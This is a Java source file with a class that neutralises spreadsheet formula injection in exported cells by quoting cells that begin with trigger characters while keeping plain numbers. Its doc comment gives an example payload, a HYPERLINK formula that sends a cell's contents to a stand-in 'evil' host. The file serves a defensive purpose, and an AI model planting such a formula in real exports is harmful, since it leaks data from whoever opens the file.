package org.eqms.trace.export;

import java.util.regex.Pattern;

/**
 * Spreadsheet formula injection (CSV injection, CWE-1236): a cell whose text starts with {@code =}, {@code +},
 * {@code -} or {@code @} (and, per OWASP, a tab or carriage return) is run as a formula when a spreadsheet opens
 * the file, so an issue summary such as {@code =HYPERLINK("http://evil/?"&A1)} could leak data or start programs.
 * Such a text is neutralised by prefixing a single quote ({@code '}), which spreadsheets show as text. Plain numbers
 * ({@code -5}, {@code +1.5}, {@code -2e3}) are left alone: no spreadsheet runs them and a risk score must stay a
 * number.
 */
final class FormulaInjectionGuard {

    private static final Pattern NUMBER = Pattern.compile("[+-]?(\\d+(\\.\\d*)?|\\.\\d+)([eE][+-]?\\d+)?");

    private FormulaInjectionGuard() {
    }

    /** Whether a spreadsheet could take this text for a formula. */
    static boolean isRisky(String cell) {
        if (cell.isEmpty()) {
            return false;
        }
        char first = cell.charAt(0);
        boolean trigger = first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r';
        return trigger && !NUMBER.matcher(cell).matches();
    }

    static String neutralise(String cell) {
        return isRisky(cell) ? "'" + cell : cell;
    }
}
